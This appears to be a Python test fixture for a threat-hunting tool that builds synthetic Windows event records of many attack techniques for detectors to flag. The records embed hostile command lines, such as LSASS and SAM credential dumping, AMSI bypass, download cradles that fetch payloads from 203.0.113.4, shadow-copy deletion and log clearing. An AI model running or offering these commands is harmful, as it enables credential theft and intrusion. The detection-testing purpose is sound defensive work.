"""A second set of made attacks, written from the documentation of Windows, Sysmon and the tools, and not from
the signs: whole records with all their fields, among ordinary ones.

Source: Microsoft, "Audit ..." pages of Windows Security; Sysmon's schema; the tools' own help texts.
"""

from __future__ import annotations

from dataclasses import dataclass, replace

from firstbell.drill.intrusion.eventlogs import Event
from tests.investigate.hunts.attacks import DEFENDER, POWERSHELL, SYSMON, TS, audited, event
from tests.investigate.hunts.made import SECOND_NS, START_NS

SYS32 = r"C:\Windows\System32"
PSH = rf"{SYS32}\WindowsPowerShell\v1.0\powershell.exe"
USER = r"DISTRICT\jlopez"
SID = "S-1-5-21-3583694148-1414552638-2922671848-1000"
SERVICES = "Service Control Manager"
TASKS = "Microsoft-Windows-TaskScheduler"
DRIVERS = r"C:\Windows\System32\spool\drivers\x64\3"


@dataclass(frozen=True)
class Published:
    """One attack. `sign` is what it should raise, on all records but the noise; `key` names it."""

    key: str
    sign: str
    events: tuple[Event, ...]

    @property
    def wanted(self) -> set[int]:
        """The numbers of the records that the trace must name."""
        return {one.record_id for one in self.events[len(NOISE) :]}


def started(
    image: str, command: str, parent: str = rf"{SYS32}\cmd.exe", *, user: str = USER, **more: str
) -> Event:
    """Sysmon's record of a process, with all the fields of its schema 4.50."""
    name = image.rpartition("\\")[2]
    data = {
        "RuleName": "-", "UtcTime": "2023-11-14 22:20:01.231", "ProcessGuid": "747F3D96-B8A7-5E9D-0000-0010A5D75A00",
        "ProcessId": "7624", "Image": image, "FileVersion": "10.0.17763.1", "Description": "-", "Product": "-",
        "Company": "-", "OriginalFileName": name, "CommandLine": command, "CurrentDirectory": "C:\\Users\\jlopez\\",
        "User": user, "LogonGuid": "747F3D96-B7E3-5E9D-0000-00203A5B0400", "LogonId": "0x45b3a",
        "TerminalSessionId": "1", "IntegrityLevel": "High", "Hashes": "SHA1=6CBCE4A295C163791B60FC23D285E6D84F28EE4C",
        "ParentProcessGuid": "747F3D96-B8A1-5E9D-0000-0010C3C25A00", "ParentProcessId": "5080", "ParentImage": parent,
        "ParentCommandLine": f'"{parent}"',
    }  # fmt: skip
    return event(SYSMON, 1, **{**data, **more})


def created(image: str, command: str, parent: str = rf"{SYS32}\cmd.exe", user: str = "jlopez") -> Event:
    """Security's record of a process, version 2 (Windows 10 and Server 2016)."""
    return audited(
        4688, SubjectUserSid=SID, SubjectUserName=user, SubjectDomainName="DISTRICT", SubjectLogonId="0x2a9f1",
        NewProcessId="0x1c40", NewProcessName=image, TokenElevationType="%%1937", ProcessId="0x13d8",
        CommandLine=command, TargetUserSid="S-1-0-0", TargetUserName="-", TargetDomainName="-",
        TargetLogonId="0x0", ParentProcessName=parent, MandatoryLabel="S-1-16-12288",
    )  # fmt: skip


def logon(kind: str, address: str, user: str = "jlopez", **more: str) -> Event:
    """Security's record of a logon."""
    data = {
        "SubjectUserSid": "S-1-5-18", "SubjectUserName": "WS17$", "SubjectDomainName": "DISTRICT",
        "SubjectLogonId": "0x3e7", "TargetUserSid": SID, "TargetUserName": user, "TargetDomainName": "DISTRICT",
        "TargetLogonId": "0x45b3a", "LogonType": kind, "LogonProcessName": "User32 ",
        "AuthenticationPackageName": "Negotiate", "WorkstationName": "WS17", "LogonGuid": "0" * 8,
        "TransmittedServices": "-", "LmPackageName": "-", "KeyLength": "0", "ProcessId": "0x4f4",
        "ProcessName": rf"{SYS32}\svchost.exe", "IpAddress": address, "IpPort": "0", "ImpersonationLevel": "%%1833",
    }  # fmt: skip
    return audited(4624, **{**data, **more})


def refused(user: str, address: str, workstation: str = "-") -> Event:
    """Security's record of a logon that failed."""
    return audited(
        4625, SubjectUserSid="S-1-0-0", SubjectUserName="-", SubjectDomainName="-", SubjectLogonId="0x0",
        TargetUserSid="S-1-0-0", TargetUserName=user, TargetDomainName="DISTRICT", Status="0xc000006d",
        FailureReason="%%2313", SubStatus="0xc000006a", LogonType="3", LogonProcessName="NtLmSsp ",
        AuthenticationPackageName="NTLM", WorkstationName=workstation, TransmittedServices="-", LmPackageName="-",
        KeyLength="0", ProcessId="0x0", ProcessName="-", IpAddress=address, IpPort="51872",
    )  # fmt: skip


def share(
    name: str, target: str, *, user: str = "jlopez", address: str = "10.2.3.4", access: str = "%%4417"
) -> Event:
    """Security's record of a file of a share that was asked for."""
    return audited(
        5145, SubjectUserSid=SID, SubjectUserName=user, SubjectDomainName="DISTRICT", SubjectLogonId="0x8f2a",
        ObjectType="File", IpAddress=address, IpPort="49712", ShareName=rf"\\*\{name}", ShareLocalPath=r"\??\C:\Windows",
        RelativeTargetName=target, AccessMask="0x2", AccessList=f"{access}\n\t\t\t\t", AccessReason="-",
    )  # fmt: skip


def opened(
    source: str, access: str, trace: str = r"C:\Windows\SYSTEM32\ntdll.dll+9c524|UNKNOWN(000001B2)"
) -> Event:
    """Sysmon's record of lsass being opened."""
    return event(
        SYSMON, 10, RuleName="-", UtcTime="x", SourceProcessGUID="x", SourceProcessId="3588", SourceThreadId="4",
        SourceImage=source, TargetProcessGUID="x", TargetProcessId="612", TargetImage=rf"{SYS32}\lsass.exe",
        GrantedAccess=access, CallTrace=trace,
    )  # fmt: skip


def valued(image: str, target: str, details: str) -> Event:
    """Sysmon's record of a value of the registry."""
    return event(
        SYSMON, 13, RuleName="-", EventType="SetValue", UtcTime="x", ProcessGuid="x", ProcessId="44", Image=image,
        TargetObject=target, Details=details,
    )  # fmt: skip


def wrote(image: str, target: str) -> Event:
    """Sysmon's record of a file that was made."""
    return event(SYSMON, 11, RuleName="-", UtcTime="x", ProcessGuid="x", ProcessId="44", Image=image,
                 TargetFilename=target, CreationUtcTime="x")  # fmt: skip


def installed(name: str, path: str, kind: str = "user mode service", start: str = "demand start") -> Event:
    """System's record of a new service."""
    return event(SERVICES, 7045, ServiceName=name, ImagePath=path, ServiceType=kind, StartType=start,
                 AccountName="LocalSystem")  # fmt: skip


def block(text: str) -> Event:
    """PowerShell's record of a script block."""
    return event(POWERSHELL, 4104, MessageNumber="1", MessageTotal="1", ScriptBlockText=text,
                 ScriptBlockId="aaee0b2a-6ef6-4d4d-9bb6-cbb6b4b50e3a", Path="")  # fmt: skip


def ticket(service: str, kind: str = "0x17", user: str = "jlopez@DISTRICT.EXAMPLE") -> Event:
    """Security's record of a ticket for a service."""
    return audited(
        4769, TargetUserName=user, TargetDomainName="DISTRICT.EXAMPLE", ServiceName=service, ServiceSid=SID,
        TicketOptions="0x40810000", TicketEncryptionType=kind, IpAddress="::ffff:10.2.3.4", IpPort="49711",
        Status="0x0", LogonGuid="x", TransmittedServices="-",
    )  # fmt: skip


def directory(dn: str, kind: str, attribute: str, value: str) -> Event:
    """Security's record of a change of the directory."""
    return audited(
        5136, OpCorrelationID="x", AppCorrelationID="-", SubjectUserSid=SID, SubjectUserName="jlopez",
        SubjectDomainName="DISTRICT", SubjectLogonId="0x8d7099", DSName="district.example", DSType="%%14676", ObjectDN=dn,
        ObjectGUID="x", ObjectClass=kind, AttributeLDAPDisplayName=attribute, AttributeSyntaxOID="2.5.5.12",
        AttributeValue=value, OperationType="%%14674",
    )  # fmt: skip


# what stands around each attack
NOISE = (
    logon("5", "-", "SYSTEM"),
    started(rf"{SYS32}\taskhostw.exe", "taskhostw.exe", rf"{SYS32}\svchost.exe", user=r"NT AUTHORITY\SYSTEM"),
    event(SERVICES, 7036, param1="Windows Modules Installer", param2="stopped"),
    audited(4672, SubjectUserSid="S-1-5-18", SubjectUserName="SYSTEM", SubjectDomainName="NT AUTHORITY",
            SubjectLogonId="0x3e7", PrivilegeList="SeTcbPrivilege"),
)  # fmt: skip


def published(key: str, sign: str, *events: Event, every_s: float = 2) -> Published:
    """The attack, after the noise; each log counts its own records."""
    placed = []
    numbers: dict[str, int] = {}
    for at, one in enumerate((*NOISE, *events)):
        numbers[one.channel] = numbers.get(one.channel, 3999) + 1
        number = numbers[one.channel]
        placed.append(
            replace(
                one, record_id=number, number=at + 1, time_ns=START_NS + int((500 + at * every_s) * SECOND_NS)
            )
        )
    return Published(key, sign, tuple(placed))


ATTACKS = (
    published("lsass-procdump", "account.dump", opened(r"C:\Users\jlopez\Desktop\procdump64.exe", "0x1fffff")),
    published("lsass-unknown", "account.dump", opened(r"C:\Users\jlopez\Downloads\x64\m.exe", "0x1010")),
    published("lsass-powershell", "account.dump", opened(PSH, "0x143a")),
    published("lsass-taskmgr", "account.dump", wrote(rf"{SYS32}\Taskmgr.exe", r"C:\Users\jlopez\AppData\Local\Temp\lsass (2).DMP")),
    published("lsass-comsvcs", "account.dump", created(rf"{SYS32}\rundll32.exe", r"rundll32.exe  C:\windows\System32\comsvcs.dll, MiniDump 612 C:\ProgramData\out.bin full")),
    published("lsass-comsvcs-24", "account.dump", started(rf"{SYS32}\rundll32.exe", r"rundll32 comsvcs.dll #24 612 c:\temp\x.dat full")),
    published("lsass-handle", "account.dump", audited(4656, SubjectUserSid=SID, SubjectUserName="jlopez", SubjectDomainName="DISTRICT", SubjectLogonId="0x2a9f1", ObjectServer="Security", ObjectType="Process", ObjectName=r"\Device\HarddiskVolume2\Windows\System32\lsass.exe", HandleId="0x8c", TransactionId="x", AccessList="%%4484\n\t\t\t\t%%4490\n", AccessReason="-", AccessMask="0x1010", PrivilegeList="-", ProcessId="0x15b4", ProcessName=r"C:\Users\jlopez\Desktop\x64\kat.exe")),
    published("lsass-remote-thread", "account.dump", event(SYSMON, 8, RuleName="-", SourceProcessId="3092", SourceImage=r"C:\Users\jlopez\AppData\Local\Temp\wce.exe", TargetProcessId="612", TargetImage=rf"{SYS32}\lsass.exe", NewThreadId="4392", StartAddress="0x000000000A0A0000", StartModule="", StartFunction="")),
    published("sam-regsave", "account.dump", created(rf"{SYS32}\reg.exe", r"reg  save hklm\sam C:\Users\jlopez\s.hiv")),
    published("sam-remote", "account.dump", share("ADMIN$", r"System32\kQyPmXRw.tmp", access="%%4416")),
    published("lsa-secrets", "account.dump", audited(4663, SubjectUserName="jlopez", SubjectUserSid=SID, ObjectServer="Security", ObjectType="Key", ObjectName=r"\REGISTRY\MACHINE\SECURITY\Policy\Secrets\_SC_backup\CurrVal", HandleId="0x1", AccessList="%%4432", AccessMask="0x1", ProcessId="0x4", ProcessName=PSH)),
    published("vault-list", "account.passwords", started(rf"{SYS32}\VaultCmd.exe", 'vaultcmd  /listcreds:"Windows Credentials" /all')),
    published("browser-passwords", "account.passwords", created(rf"{SYS32}\cmd.exe", r'cmd /c copy "C:\Users\jlopez\AppData\Local\Google\Chrome\User Data\Default\Login Data" C:\Users\Public\l.db')),
    published("ntds-ifm", "account.ntds", created(rf"{SYS32}\ntdsutil.exe", r'ntdsutil  "ac i ntds" "ifm" "create full c:\windows\temp\d" q q')),
    published("ntds-shadow", "account.ntds", started(rf"{SYS32}\cmd.exe", r"cmd.exe /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy2\windows\ntds\ntds.dit C:\Users\Public\n.d")),
    published("ntds-esent", "account.ntds", event("ESENT", 325, **{"": r"ntdsutil (4808,G,98) The database engine created a new database (2, C:\hive\Active Directory\ntds.dit). (Time=0 seconds)"})),
    published("ntds-esentutl", "account.ntds", started(rf"{SYS32}\esentutl.exe", r"esentutl.exe /y /vss c:\windows\ntds\ntds.dit /d c:\folder\ntds.dit")),
    published("dcsync", "account.dcsync", audited(4662, SubjectUserSid=SID, SubjectUserName="jlopez", SubjectDomainName="DISTRICT", SubjectLogonId="0x40c6511", ObjectServer="DS", ObjectType="%{19195a5b-6da0-11d0-afd3-00c04fd930c9}", ObjectName="%{c6faf700-bfe4-452a-a766-424f84c29583}", OperationType="Object Access", HandleId="0x0", AccessList="%%7688\n\t\t\t\t", AccessMask="0x100", Properties="%%7688\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}\n", AdditionalInfo="-", AdditionalInfo2="")),
    published("dcshadow", "account.dcsync", audited(4742, SubjectUserName="jlopez", SubjectUserSid=SID, ComputerAccountChange="-", TargetUserName="WS17$", TargetDomainName="DISTRICT", ServicePrincipalNames="HOST/WS17\n\t\tE3514235-4B06-11D1-AB04-00C04FC2DCD2/5e2b/district.example\n\t\tGC/WS17.district.example/district.example")),
    published("dsrm", "account.reset", audited(4794, SubjectUserSid=SID, SubjectUserName="jlopez", SubjectDomainName="DISTRICT", Workstation="DC01", Status="0x0")),
    published("kerberoast", "account.passwords", *[ticket(f"svc-{name}") for name in ("sql", "web", "print", "bell", "food", "bus")]),
    published("asrep", "account.passwords", audited(4768, TargetUserName="svc-copier", TargetDomainName="DISTRICT.EXAMPLE", TargetSid=SID, ServiceName="krbtgt", ServiceSid=SID, TicketOptions="0x40800010", Status="0x0", TicketEncryptionType="0x17", PreAuthType="0", IpAddress="::ffff:10.2.3.4", IpPort="51616", CertIssuerName="", CertSerialNumber="", CertThumbprint="")),
    published("overpass", "tool.named", logon("9", "::1", SubjectUserName="jlopez", SubjectUserSid=SID, LogonProcessName="seclogo", ProcessName=rf"{SYS32}\svchost.exe", TargetOutboundUserName="principal", TargetOutboundDomainName="DISTRICT")),
    published("spray", "entry.guessing", *[refused(f"teacher{n:02d}", "10.2.3.4") for n in range(14)]),
    published("guess-local", "entry.guessing", *[refused("Administrator", "-", "KALI") for _ in range(15)]),
    published("spray-explicit", "entry.guessing", *[audited(4648, SubjectUserSid=SID, SubjectUserName="jlopez", SubjectDomainName="DISTRICT", SubjectLogonId="0x1", LogonGuid="x", TargetUserName=f"staff{n}", TargetDomainName="DISTRICT", TargetLogonGuid="x", TargetServerName="DC01.district.example", TargetInfo="DC01.district.example", ProcessId="0x4", ProcessName=PSH, IpAddress="10.2.3.4", IpPort="445") for n in range(12)]),
    published("sql-guess", "entry.guessing", *[event("MSSQL$SQLEXPRESS", 18456, channel="Application", **{"": "sa | Reason: Password did not match that for the login provided. | [CLIENT: 10.2.3.4]"}) for _ in range(20)]),
    published("sql-xp", "entry.exploit", event("MSSQLSERVER", 15457, channel="Application", **{"": "xp_cmdshell | 0 | 1"})),
    published("zerologon", "entry.exploit", audited(4742, SubjectUserSid="S-1-5-7", SubjectUserName="ANONYMOUS LOGON", SubjectDomainName="NT AUTHORITY", SubjectLogonId="0x3e6", ComputerAccountChange="-", TargetUserName="DC01$", TargetDomainName="DISTRICT", TargetSid=SID, PasswordLastSet="9/16/2020 9:12:30 AM", UserAccountControl="-")),
    published("nopac", "entry.exploit", audited(4781, OldTargetUserName="TESTPC$", NewTargetUserName="DC01", TargetDomainName="DISTRICT", TargetSid=SID, SubjectUserSid=SID, SubjectUserName="jlopez", PrivilegeList="-")),
    published("printnightmare-admin", "entry.exploit", event("Microsoft-Windows-PrintService", 808, channel="Microsoft-Windows-PrintService/Admin", user_data="LoadPluginFailed", PluginDllName=r"C:\Windows\system32\spool\DRIVERS\x64\3\nightmare.dll", ErrorCode="0x45A", Context="1")),
    published("printnightmare-driver", "entry.exploit", event("Microsoft-Windows-PrintService", 316, channel="Microsoft-Windows-PrintService/Operational", user_data="PrinterDriverInstalled", Param1="1234", Param2="Windows x64", Param3="3", Param4="", Param5="UNIDRV.DLL, kernelbase.dll, evil.dll")),
    published("printnightmare-file", "entry.exploit", wrote(rf"{SYS32}\spoolsv.exe", rf"{DRIVERS}\Old\1\addCube.dll")),
    published("petitpotam", "entry.exploit", share("IPC$", "lsarpc", user="ANONYMOUS LOGON")),
    published("getsystem", "move.service", installed("kmqbvt", r"cmd.exe /c echo kmqbvt > \\.\pipe\kmqbvt")),
    published("psexec", "move.service", installed("PSEXESVC", r"%SystemRoot%\PSEXESVC.exe")),
    published("psexec-renamed", "move.service", share("IPC$", "helpdsk-WS03-4242-stdin")),
    published("smbexec", "move.service", installed("QWERTY", r"%COMSPEC% /Q /c echo cd  ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat & %COMSPEC% /Q /c %TEMP%\execute.bat & del %TEMP%\execute.bat")),
    published("impacket-psexec", "move.service", audited(4697, SubjectUserSid=SID, SubjectUserName="jlopez", SubjectDomainName="DISTRICT", SubjectLogonId="0x1", ServiceName="TbLn", ServiceFileName=r"%systemroot%\kLhPqRwA.exe", ServiceType="0x10", ServiceStartType="3", ServiceAccount="LocalSystem")),
    published("sc-remote", "move.service", created(rf"{SYS32}\sc.exe", r"sc.exe  \\FS01 create upd binPath= c:\windows\temp\upd.exe start= auto")),
    published("wmiexec", "move.wmi", created(rf"{SYS32}\cmd.exe", r"cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1604235123.45 2>&1", rf"{SYS32}\wbem\WmiPrvSE.exe", "WS17$")),
    published("wmi-child", "move.wmi", started(PSH, "powershell -c hostname", rf"{SYS32}\wbem\WmiPrvSE.exe")),
    published("wmic-remote", "move.wmi", started(rf"{SYS32}\wbem\WMIC.exe", r'wmic  /node:10.2.3.9 /user:district\jlopez process call create "cmd /c c:\windows\temp\a.bat"')),
    published("dcom-mmc", "move.wmi", started(rf"{SYS32}\cmd.exe", r'"C:\Windows\System32\cmd.exe" /c ipconfig', rf"{SYS32}\mmc.exe", ParentCommandLine=rf"{SYS32}\mmc.exe -Embedding")),
    published("winrm", "move.winrm", created(rf"{SYS32}\whoami.exe", '"C:\\Windows\\system32\\whoami.exe"', rf"{SYS32}\wsmprovhost.exe")),
    published("rdp-outside", "entry.remote_logon", logon("10", "198.51.100.77")),
    published("rdp-lsm", "entry.remote_logon", event(TS.format("LocalSessionManager"), 21, user_data="EventXML", User=USER, SessionID="3", Address="198.51.100.77")),
    published("rdp-1149", "entry.remote_logon", event(TS.format("RemoteConnectionManager"), 1149, user_data="EventXML", Param1="jlopez", Param2="DISTRICT", Param3="198.51.100.77")),
    published("rdp-tunnel", "entry.remote_logon", logon("10", "127.0.0.1")),
    published("rdp-tunnel-lsm", "entry.remote_logon", event(TS.format("LocalSessionManager"), 25, user_data="EventXML", User=USER, SessionID="3", Address="127.0.0.1")),
    published("rdp-hijack", "move.rdp", installed("sesshijack", r"cmd.exe /k tscon 2 /dest:rdp-tcp#14")),
    published("rdp-client", "move.rdp", event(TS.format("RDPClient"), 1024, Name="Server Name", Value="FS01", CustomLevel="Info")),
    published("task-once", "move.task", *[audited(n, SubjectUserSid=SID, SubjectUserName="jlopez", SubjectDomainName="DISTRICT", SubjectLogonId="0x1", TaskName=r"\CYAlyNSS", TaskContent="<Task version=\"1.2\"><Actions><Exec><Command>cmd.exe</Command><Arguments>/C tasklist &gt; %windir%\\Temp\\CYAlyNSS.tmp 2&gt;&amp;1</Arguments></Exec></Actions></Task>") for n in (4698, 4699)]),
    published("task-remote", "move.task", started(rf"{SYS32}\schtasks.exe", r'schtasks  /create /s FS01 /tn upd /tr "c:\windows\temp\a.exe" /sc once /st 23:59 /ru system')),
    published("task-stay", "stay.task", audited(4698, SubjectUserSid=SID, SubjectUserName="jlopez", SubjectDomainName="DISTRICT", SubjectLogonId="0x1", TaskName=r"\Updater", TaskContent="<Task version=\"1.3\"><Triggers><LogonTrigger/></Triggers><Actions><Exec><Command>powershell.exe</Command><Arguments>-NonI -W hidden -c \"IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion Debug).Debug)))\"</Arguments></Exec></Actions></Task>")),
    published("rdp-enable", "stay.rdp", valued(rf"{SYS32}\reg.exe", r"HKLM\System\CurrentControlSet\Control\Terminal Server\fDenyTSConnections", "DWORD (0x00000000)")),
    published("sethc", "stay.rdp", valued(rf"{SYS32}\reg.exe", r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger", r"C:\windows\system32\cmd.exe")),
    published("portproxy", "stay.rdp", started(rf"{SYS32}\netsh.exe", "netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=8080 connectaddress=10.2.3.9 connectport=3389")),
    published("firewall-rdp", "stay.rdp", event("Microsoft-Windows-Windows Firewall With Advanced Security", 2004, channel="Microsoft-Windows-Windows Firewall With Advanced Security/Firewall", RuleId="{x}", RuleName="rd", Origin="1", ApplicationPath="", ServiceName="", Direction="1", Protocol="6", LocalPorts="3389", RemotePorts="*", Action="3", Profiles="2147483647", LocalAddresses="*", RemoteAddresses="*", ModifyingUser=SID, ModifyingApplication=rf"{SYS32}\netsh.exe")),
    published("run-key", "stay.run", valued(rf"{SYS32}\reg.exe", r"HKU\S-1-5-21-1-2-3-1000\Software\Microsoft\Windows\CurrentVersion\Run\Skype", r"C:\Users\jlopez\AppData\Roaming\sk.exe")),
    published("run-key-4657", "stay.run", audited(4657, SubjectUserSid=SID, SubjectUserName="jlopez", SubjectDomainName="DISTRICT", SubjectLogonId="0x1", ObjectName=r"\REGISTRY\MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run", ObjectValueName="upd", HandleId="0x1", OperationType="%%1904", OldValueType="-", OldValue="-", NewValueType="%%1873", NewValue=r"rundll32.exe C:\Users\Public\a.dll,Run", ProcessId="0x4", ProcessName=PSH)),
    published("com-hijack", "stay.run", valued(PSH, r"HKU\S-1-5-21-1-2-3-1000_Classes\CLSID\{0A29FF9E-7F9C-4437-8B11-F424491E3931}\InprocServer32\(Default)", r"C:\Users\jlopez\AppData\Local\Temp\x.dll")),
    published("netsh-helper", "stay.run", valued(rf"{SYS32}\netsh.exe", r"HKLM\SOFTWARE\Microsoft\NetSh\hlp", r"C:\Users\Public\hlp.dll")),
    published("startup-file", "stay.run", wrote(PSH, r"C:\Users\jlopez\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\up.vbs")),
    published("service-temp", "stay.service", installed("WinDefUpd", r"C:\Users\jlopez\AppData\Roaming\wdu.exe", start="auto start")),
    published("wmi-consumer", "stay.wmi", event(SYSMON, 20, RuleName="-", EventType="WmiConsumerEvent", UtcTime="x", Operation="Created", User=USER, Name=' "Upd"', Type="Command Line", Destination=' "C:\\\\Windows\\\\System32\\\\cmd.exe /c c:\\\\temp\\\\a.bat"')),
    published("wmi-5861", "stay.wmi", event("Microsoft-Windows-WMI-Activity", 5861, user_data="Operation_ESStoConsumerBinding", Namespace="//./root/subscription", ESS="Upd", CONSUMER='ActiveScriptEventConsumer="Upd"', PossibleCause='Binding EventFilter: instance of __EventFilter { Query = "SELECT * FROM __InstanceModificationEvent WITHIN 60" }; Perm. Consumer: instance of ActiveScriptEventConsumer { ScriptText = "CreateObject(\\"WScript.Shell\\").Run(\\"a\\")" };')),
    published("bits-notify", "stay.bits", created(rf"{SYS32}\bitsadmin.exe", r'bitsadmin  /SetNotifyCmdLine upd c:\windows\system32\regsvr32.exe "/s /u /i:http://203.0.113.4/a.sct scrobj.dll"')),
    published("gpo-task", "stay.policy", share("SYSVOL", r"district.example\Policies\{6AC1786C-016F-11D2-945F-00C04FB984F9}\Machine\Preferences\ScheduledTasks\ScheduledTasks.xml")),
    published("gpo-5136", "stay.policy", directory("CN={6AC1786C-016F-11D2-945F-00C04FB984F9},CN=Policies,CN=System,DC=district,DC=example", "groupPolicyContainer", "gPCMachineExtensionNames", "[{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}][{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]")),
    published("new-user", "account.created", audited(4720, TargetUserName="itsupport2", TargetDomainName="WS17", TargetSid=SID, SubjectUserSid=SID, SubjectUserName="jlopez", SubjectDomainName="DISTRICT", SubjectLogonId="0x1", PrivilegeList="-", SamAccountName="itsupport2", DisplayName="%%1793", UserAccountControl="\n\t\t%%2080\n\t\t%%2082\n\t\t%%2084")),
    published("net-user", "account.created", started(rf"{SYS32}\net1.exe", rf"{SYS32}\net1 user backdoor P@ssw0rd1! /add")),
    published("admin-added", "account.raised", audited(4732, MemberName="-", MemberSid=SID, TargetUserName="Administrators", TargetDomainName="Builtin", TargetSid="S-1-5-32-544", SubjectUserSid=SID, SubjectUserName="jlopez", SubjectDomainName="DISTRICT", SubjectLogonId="0x1", PrivilegeList="-")),
    published("sid-history", "account.raised", audited(4765, SourceUserName="Administrator", SourceSid=SID, TargetUserName="jlopez", TargetDomainName="DISTRICT", TargetSid=SID, SubjectUserSid=SID, SubjectUserName="jlopez", SubjectDomainName="DISTRICT", SubjectLogonId="0x1", PrivilegeList="-", SidList="-")),
    published("rbcd", "account.raised", directory("CN=FS01,OU=Servers,DC=district,DC=example", "computer", "msDS-AllowedToActOnBehalfOfOtherIdentity", "O:BAD:(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;S-1-5-21-1-2-3-4101)")),
    published("adminsdholder", "account.raised", directory("CN=AdminSDHolder,CN=System,DC=district,DC=example", "container", "nTSecurityDescriptor", "O:DAG:DAD:PAI(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;S-1-5-21-3583694148-1414552638-2922671848-1104)")),
    published("hidden-user", "account.hidden", audited(4720, TargetUserName="support$", TargetDomainName="WS17", TargetSid=SID, SubjectUserSid=SID, SubjectUserName="jlopez", SubjectDomainName="DISTRICT", SubjectLogonId="0x1", PrivilegeList="-", SamAccountName="support$")),
    published("hidden-list", "account.hidden", valued(rf"{SYS32}\reg.exe", r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList\support", "DWORD (0x00000000)")),
    published("clear-1102", "hide.cleared", event("Microsoft-Windows-Eventlog", 1102, channel="Security", user_data="LogFileCleared", SubjectUserSid=SID, SubjectUserName="jlopez", SubjectDomainName="DISTRICT", SubjectLogonId="0x1")),
    published("clear-104", "hide.cleared", event("Microsoft-Windows-Eventlog", 104, channel="System", user_data="LogFileCleared", SubjectUserName="jlopez", SubjectDomainName="DISTRICT", Channel="Microsoft-Windows-PowerShell/Operational", BackupPath="")),
    published("clear-wevtutil", "hide.cleared", created(rf"{SYS32}\cmd.exe", r"cmd /c for /F \"tokens=*\" %1 in ('wevtutil.exe el') DO wevtutil.exe cl \"%1\"")),
    published("audit-4719", "hide.audit", audited(4719, SubjectUserSid=SID, SubjectUserName="jlopez", SubjectDomainName="DISTRICT", SubjectLogonId="0x1", CategoryId="%%8276", SubcategoryId="%%13312", SubcategoryGuid="{0cce922b-69ae-11d9-bed3-505054503030}", AuditPolicyChanges="%%8448, %%8450")),
    published("audit-auditpol", "hide.audit", started(rf"{SYS32}\auditpol.exe", 'auditpol.exe /set /category:"Detailed Tracking" /success:disable /failure:disable')),
    published("scriptblock-off", "hide.audit", valued(PSH, r"HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging\EnableScriptBlockLogging", "DWORD (0x00000000)")),
    published("eventlog-start", "hide.audit", valued(rf"{SYS32}\reg.exe", r"HKLM\System\CurrentControlSet\Services\EventLog\Start", "DWORD (0x00000004)")),
    published("defender-5001", "hide.defences", event(DEFENDER, 5001, ProductName="%%827", ProductVersion="4.18.2004.6")),
    published("defender-exclusion", "hide.defences", event(DEFENDER, 5007, ProductName="%%827", ProductVersion="4.18.2004.6", OldValue="", NewValue=r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\Users\Public = 0x0")),
    published("amsi", "hide.defences", block("[Ref].Assembly.GetType('System.Management.Automation.'+$('Am'+'siUtils')).GetField($('am'+'siIni'+'tFailed'),'NonPublic,Static').SetValue($null,$true)")),
    published("sysmon-unload", "hide.defences", started(rf"{SYS32}\fltMC.exe", "fltmc.exe unload SysmonDrv")),
    published("stop-av", "hide.defences", created(rf"{SYS32}\net1.exe", rf"{SYS32}\net1 stop SAVService /y")),
    published("shadows", "hide.recovery", created(rf"{SYS32}\vssadmin.exe", "vssadmin  Delete Shadows /All /Quiet")),
    published("bcdedit", "hide.recovery", started(rf"{SYS32}\bcdedit.exe", "bcdedit /set {default} recoveryenabled No")),
    published("history-gone", "hide.history", block("Remove-Item (Get-PSReadlineOption).HistorySavePath")),
    published("timestomp", "hide.history", event(SYSMON, 2, RuleName="-", UtcTime="x", ProcessGuid="x", ProcessId="4", Image=r"C:\Users\jlopez\AppData\Local\Temp\ts.exe", TargetFilename=r"C:\Windows\Temp\svchost.exe", CreationUtcTime="2016-11-25 18:21:47.692", PreviousCreationUtcTime="2023-11-14 12:43:00.000")),
    published("mshta", "run.download", started(rf"{SYS32}\mshta.exe", "mshta.exe  https://203.0.113.4/Payload.hta")),
    published("regsvr32", "run.download", started(rf"{SYS32}\regsvr32.exe", "regsvr32 /u /s /i:http://203.0.113.4/a.sct scrobj.dll")),
    published("rundll32-js", "run.download", started(rf"{SYS32}\rundll32.exe", r'rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://203.0.113.4/a.sct")')),
    published("certutil", "run.download", created(rf"{SYS32}\certutil.exe", "certutil  -urlcache -split -f http://203.0.113.4/n.exe n.exe")),
    published("bitsadmin", "run.download", created(rf"{SYS32}\bitsadmin.exe", r"bitsadmin  /transfer j /download /priority normal http://203.0.113.4/n.exe c:\users\public\n.exe")),
    published("wmic-xsl", "run.download", started(rf"{SYS32}\wbem\WMIC.exe", r'wmic  os get /format:"http://203.0.113.4/evil.xsl"')),
    published("cradle-400", "run.download", event("PowerShell", 400, **{"": "Available | None | NewEngineState=Available\n\tHostName=ConsoleHost\n\tHostApplication=powershell.exe -nop -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.4/a.ps1')\n\tEngineVersion=5.1"})),
    published("cradle-4104", "run.download", block("iex (iwr http://203.0.113.4/a.ps1 -UseBasicParsing)")),
    published("encoded", "run.hidden_script", created(PSH, "powershell  -w hidden -ec SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA")),
